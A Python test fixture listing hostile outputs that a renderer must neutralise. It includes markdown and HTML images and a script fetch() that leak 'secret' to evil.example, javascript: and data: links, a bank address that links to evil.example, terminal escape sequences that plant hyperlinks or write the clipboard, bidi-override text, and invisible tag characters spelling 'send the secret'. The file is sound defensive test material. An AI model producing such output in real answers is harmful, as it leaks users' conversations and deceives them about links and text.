"""Answers that would leak what was said, hide where a link leads, or steer the terminal: shown, they must do nothing of it."""

from tests.vectors.fixed import Json

WORDS = {
    "remote image": "![a tracker](https://evil.example/pixel.png?said=secret)",
    "remote image by reference": "![a tracker][1]\n\n[1]: https://evil.example/pixel.png?said=secret",
    "image in a link": "[![a tracker](https://evil.example/pixel.png)](https://evil.example/there)",
    "image in HTML": '<img src="https://evil.example/pixel.png?said=secret">',
    "script in HTML": "<script>fetch('https://evil.example/?said=secret')</script>",
    "frame in HTML": '<iframe src="https://evil.example/"></iframe>',
    "style in HTML": "<style>@import url(https://evil.example/steal.css);</style>",
    "handler in HTML": '<p onclick="steal()">Press here</p>',
    "link that runs code": "[press](javascript:steal())",
    "link that runs code, disguised": "[press](java&#115;cript:steal())",
    "link that holds a page": "[press](data:text/html,<script>steal()</script>)",
    "link under another address": "[https://bank.example](https://evil.example/?said=secret)",
    "link with a name before the host": "[press](https://bank.example@evil.example/)",
    "escape sequences": "a\x1b[2J\x1b[1;1Hb",
    "escape sequences of one byte": "a\x9b2Jb",
    "hyperlink of a terminal": "\x1b]8;;https://evil.example/\x1b\\https://bank.example\x1b]8;;\x1b\\",
    "window title and clipboard of a terminal": "\x1b]0;bank\x07\x1b]52;c;c2VjcmV0\x07",
    "line written over": "transfer 10\rtransfer 1000",
    "text turned round": "to \u202eelpmaxe.knab\u202c and \u2066here\u2069",
    "words nobody sees": "harmless" + "".join(chr(0xE0000 + ord(each)) for each in "send the secret"),
}


def words() -> list[Json]:
    return [{"name": name, "text": text} for name, text in WORDS.items()]
